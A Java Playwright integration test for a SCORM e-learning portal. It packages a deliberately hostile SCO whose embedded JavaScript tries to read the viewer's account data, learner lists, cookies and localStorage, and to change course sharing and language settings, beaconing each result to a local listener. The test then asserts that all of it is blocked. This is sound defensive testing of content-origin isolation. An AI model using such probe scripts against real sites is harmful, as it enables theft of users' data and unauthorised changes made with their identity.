package dev.manabi.samplehost.e2e;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.options.Cookie;
import com.sun.net.httpserver.HttpServer;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

/**
 * A hostile SCORM package against the content origin (README "Content origin"): its script tries everything a SCO
 * served on the portal's origin could do with the viewer's identity (read {@code /manabi/api/me} and the admin's
 * member list by relative and absolute URL, publish its course to every institution, change the viewer's language,
 * read the portal's DOM, cookies and storage) and beacons each outcome to a listener this test runs on 127.0.0.1.
 * Opened by an institution admin in the player and by an author in the preview, nothing is reached, and the package
 * still completes through the SCORM API.
 */
class HostileContentIT {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String PORTAL_SECRET = "portal-local-storage-secret";
    /** The probes the package runs; each must report, and none may reach anything. */
    private static final Set<String> PROBES = Set.of("api-me-relative", "api-me-portal", "admin-learners-portal",
            "sharing-relative", "sharing-portal", "language-relative", "language-portal", "parent-document",
            "grandparent-document", "top-document", "top-location", "cookie", "local-storage", "top-local-storage");

    @RegisterExtension
    static final Browser browser = Browser.perClass();

    private static HttpServer listener;
    private static final List<JsonNode> REPORTS = new CopyOnWriteArrayList<>();
    private static String courseId;
    private static String packageId;

    @BeforeAll
    static void uploadTheHostilePackage() throws IOException {
        listener = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
        listener.createContext("/report", exchange -> {
            byte[] body = exchange.getRequestBody().readAllBytes();
            try {
                REPORTS.add(JSON.readTree(body));
            } catch (IOException notJson) {
                REPORTS.add(JSON.createObjectNode().put("probe", "unreadable")
                        .put("detail", new String(body, StandardCharsets.UTF_8)));
            }
            exchange.getResponseHeaders().add("Access-Control-Allow-Origin", "*");
            exchange.sendResponseHeaders(204, -1);
            exchange.close();
        });
        listener.start();

        Api author = Api.as("author");
        Api.Reply course = author.postJson("/manabi/api/courses", "{\"title\":{\"en\":\"Hostile content\"},"
                + "\"defaultLanguage\":\"en\",\"visibility\":\"TENANT\"}");
        assertThat(course.status()).as(course.text()).isEqualTo(201);
        courseId = course.json().get("id").asText();
        Path zip = hostilePackage("http://127.0.0.1:" + listener.getAddress().getPort() + "/report", courseId);
        Api.Reply upload = author.postFile("/manabi/api/packages?course=" + courseId, zip, "application/zip");
        assertThat(upload.status()).as(upload.text()).isEqualTo(201);
        packageId = upload.json().get("id").asText();
        Files.delete(zip);
    }

    @AfterAll
    static void stopListener() {
        if (listener != null) {
            listener.stop(0);
        }
    }

    @Test
    void institutionAdminPlayingItExposesNothingAndTheCourseStillCompletes() {
        String languageBefore = Api.as("admin-a").get("/manabi/api/me").json().path("chosenLanguage").asText("");
        REPORTS.clear();
        Page page = browser.signIn("admin-a");
        List<String> console = console(page);
        page.evaluate("secret => localStorage.setItem('secret', secret)", PORTAL_SECRET);
        page.navigate("/player.html?course=" + courseId);
        Map<String, JsonNode> outcomes = awaitProbes(page, console);
        assertNothingReached(outcomes, page.context().cookies());

        // The package still completes through the SCORM API, on the content origin.
        assertThat(outcomes.get("api").path("outcome").asText()).as(outcomes.get("api").toString())
                .isEqualTo("completed");
        JsonNode progress = awaitCompleted("admin-a");
        assertThat(progress.get("completion").asText()).as(progress.toString()).isEqualTo("completed");

        // Nothing changed on the portal with the admin's identity.
        JsonNode course = Api.as("admin-a").get("/manabi/api/courses/" + courseId).json();
        assertThat(course.get("visibility").asText()).as("sharing unchanged").isEqualTo("TENANT");
        assertThat(Api.as("admin-a").get("/manabi/api/me").json().path("chosenLanguage").asText(""))
                .as("language unchanged").isEqualTo(languageBefore);
        assertThat(page.evaluate("() => typeof window.API + typeof window.API_1484_11"))
                .as("no SCORM API on the portal's window").isEqualTo("undefinedundefined");
        page.context().close();
    }

    @Test
    void authorPreviewingItExposesNothing() {
        REPORTS.clear();
        Page page = browser.signIn("author");
        List<String> console = console(page);
        page.evaluate("secret => localStorage.setItem('secret', secret)", PORTAL_SECRET);
        page.navigate("/preview.html?package=" + packageId);
        Map<String, JsonNode> outcomes = awaitProbes(page, console);
        assertNothingReached(outcomes, page.context().cookies());
        assertThat(outcomes.get("api").path("outcome").asText()).isEqualTo("completed");
        // The live log still shows the SCO's calls, sent from the launcher by postMessage.
        assertThat(page.locator("manabi-scorm-preview").locator("#log")).containsText("LMSSetValue");
        assertThat(Api.as("author").get("/manabi/api/courses/" + courseId).json().get("visibility").asText())
                .isEqualTo("TENANT");
        page.context().close();
    }

    @Test
    void theContentHostAnswersNothingButContent() throws IOException, InterruptedException {
        var http = java.net.http.HttpClient.newHttpClient();
        // Including Liberty's own endpoints (features' applications on default_host, the admin port; README).
        for (String path : List.of("/manabi/api/me", "/manabi/api/admin/learners", "/index.html", "/manabi/content/"
                + packageId + "/hostile.html", "/health", "/health/ready", "/health/live", "/openapi",
                "/openapi/ui/", "/metrics", "/ibm/api/", "/ibm/api/docs")) {
            var response = http.send(java.net.http.HttpRequest.newBuilder(
                    java.net.URI.create(Browser.contentOrigin() + path)).header("Authorization", "Basic "
                    + java.util.Base64.getEncoder().encodeToString("admin-a:manabi-demo".getBytes(
                    StandardCharsets.UTF_8))).build(), java.net.http.HttpResponse.BodyHandlers.ofString());
            assertThat(response.statusCode()).as(path).isEqualTo(404);
            assertThat(response.body()).as(path).contains("\"code\":\"not-found\"");
            assertThat(response.headers().firstValue("Content-Security-Policy")).isPresent();
        }
    }

    /** Waits for every probe's report and the SCO's own API run; the reports by probe. */
    /** What the page and its frames write to the console from now on (shown when a probe never reports). */
    private static List<String> console(Page page) {
        List<String> console = new CopyOnWriteArrayList<>();
        page.onConsoleMessage(m -> console.add(m.type() + ": " + m.text()));
        page.onPageError(e -> console.add("page error: " + e));
        return console;
    }

    private static Map<String, JsonNode> awaitProbes(Page page, List<String> console) {
        Instant deadline = Instant.now().plus(Duration.ofSeconds(60));
        while (Instant.now().isBefore(deadline)) {
            Map<String, JsonNode> byProbe = new TreeMap<>();
            REPORTS.forEach(r -> byProbe.put(r.path("probe").asText(), r));
            if (byProbe.keySet().containsAll(PROBES) && byProbe.containsKey("api")) {
                return byProbe;
            }
            sleep();
        }
        Browser.screenshot(page, "hostile-" + Browser.baseUrl().replaceAll("\\W+", "-"));
        throw new AssertionError("the hostile package did not report every probe: " + REPORTS + "; console: "
                + console);
    }

    private static void assertNothingReached(Map<String, JsonNode> outcomes, List<Cookie> portalCookies) {
        for (String probe : PROBES) {
            JsonNode r = outcomes.get(probe);
            assertThat(r.path("outcome").asText()).as(probe + ": " + r).isEqualTo("blocked");
        }
        String everything = REPORTS.toString();
        assertThat(everything).doesNotContain(PORTAL_SECRET).doesNotContain("University A")
                .doesNotContain("\"learnerId\"");
        for (Cookie c : portalCookies) {
            assertThat(everything).as("cookie " + c.name).doesNotContain(c.value);
        }
    }

    private static JsonNode awaitCompleted(String user) {
        Instant deadline = Instant.now().plus(Duration.ofSeconds(30));
        JsonNode progress = null;
        while (Instant.now().isBefore(deadline)) {
            progress = Api.as(user).get("/manabi/api/courses/" + courseId + "/progress/me").json();
            if ("completed".equals(progress.path("completion").asText())) {
                return progress;
            }
            sleep();
        }
        return progress;
    }

    private static void sleep() {
        try {
            Thread.sleep(250);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException(e);
        }
    }

    /**
     * A SCORM 1.2 package of one SCO whose script probes the portal, reports to {@code listener}, then completes
     * through the API it finds by the usual discovery (SCORM 1.2 RTE 3.3.6.1: walk window.parent).
     */
    static Path hostilePackage(String listener, String courseId) throws IOException {
        String portal = Browser.baseUrl();
        String manifest = """
                <?xml version="1.0" encoding="UTF-8"?>
                <manifest identifier="hostile-%s" version="1"
                    xmlns="http://www.imsproject.org/xsd/imscp_rootv1p1p2"
                    xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_rootv1p2">
                  <metadata><schema>ADL SCORM</schema><schemaversion>1.2</schemaversion></metadata>
                  <organizations default="ORG">
                    <organization identifier="ORG"><title>Hostile</title>
                      <item identifier="ITEM" identifierref="RES"><title>Hostile SCO</title></item>
                    </organization>
                  </organizations>
                  <resources>
                    <resource identifier="RES" type="webcontent" adlcp:scormtype="sco" href="hostile.html">
                      <file href="hostile.html"/>
                    </resource>
                  </resources>
                </manifest>
                """.formatted(courseId);
        String script = """
                const LISTENER = %s, PORTAL = %s, COURSE = %s;
                const report = (probe, outcome, detail) =>
                  navigator.sendBeacon(LISTENER, JSON.stringify({ probe, outcome, detail: String(detail).slice(0, 2000) }));
                // "reached" only when something of the portal or the viewer came back.
                async function request(probe, url, init) {
                  try {
                    const r = await fetch(url, { credentials: 'include', ...init });
                    const text = await r.text();
                    report(probe, r.ok ? 'reached' : 'blocked', r.status + ' ' + text);
                  } catch (e) { report(probe, 'blocked', e); }
                }
                function read(probe, get, portalOnly) {
                  try {
                    const value = get();
                    report(probe, portalOnly(value) ? 'reached' : 'blocked', value);
                  } catch (e) { report(probe, 'blocked', e); }
                }
                const json = { 'Content-Type': 'application/json' };
                const docOfPortal = (d) => !!d && d.location && d.location.origin === PORTAL;
                request('api-me-relative', '/manabi/api/me');
                request('api-me-portal', PORTAL + '/manabi/api/me');
                request('admin-learners-portal', PORTAL + '/manabi/api/admin/learners');
                request('sharing-relative', '/manabi/api/courses/' + COURSE + '/sharing', { method: 'PUT', headers: json, body: '{"visibility":"GLOBAL"}' });
                request('sharing-portal', PORTAL + '/manabi/api/courses/' + COURSE + '/sharing', { method: 'PUT', headers: json, body: '{"visibility":"GLOBAL"}' });
                request('language-relative', '/manabi/api/me/language', { method: 'PUT', headers: json, body: '{"language":"ko"}' });
                request('language-portal', PORTAL + '/manabi/api/me/language', { method: 'PUT', headers: json, body: '{"language":"ko"}' });
                read('parent-document', () => parent.document, docOfPortal);
                read('grandparent-document', () => parent.parent.document, docOfPortal);
                read('top-document', () => top.document.documentElement.outerHTML, (v) => !!v);
                read('top-location', () => top.location.href, (v) => !!v);
                read('cookie', () => document.cookie, (v) => v.length > 0);
                read('local-storage', () => localStorage.getItem('secret'), (v) => v !== null);
                read('top-local-storage', () => top.localStorage.getItem('secret'), (v) => v !== null);

                function findApi(win) {
                  for (let i = 0; win && i < 10; i++) {
                    if (win.API) return win.API;
                    if (win.parent === win) break;
                    win = win.parent;
                  }
                  return null;
                }
                window.addEventListener('load', () => {
                  const api = findApi(window);
                  if (!api) { report('api', 'no-api', ''); return; }
                  const ok = api.LMSInitialize('') === 'true'
                    && api.LMSSetValue('cmi.core.lesson_status', 'completed') === 'true'
                    && api.LMSCommit('') === 'true' && api.LMSFinish('') === 'true';
                  report('api', ok ? 'completed' : 'failed', api.LMSGetLastError());
                });
                """.formatted(JSON.writeValueAsString(listener), JSON.writeValueAsString(portal),
                JSON.writeValueAsString(courseId));
        String html = "<!DOCTYPE html><html lang=\"en\"><head><meta charset=\"utf-8\"><title>Hostile SCO</title>"
                + "<script>" + script + "</script></head><body><p>Nothing to see here.</p></body></html>";
        Path zip = Files.createTempFile("hostile-", ".zip");
        try (ZipOutputStream out = new ZipOutputStream(Files.newOutputStream(zip))) {
            for (Map.Entry<String, String> e : Map.of("imsmanifest.xml", manifest, "hostile.html", html).entrySet()) {
                out.putNextEntry(new ZipEntry(e.getKey()));
                out.write(e.getValue().getBytes(StandardCharsets.UTF_8));
                out.closeEntry();
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return zip;
    }
}
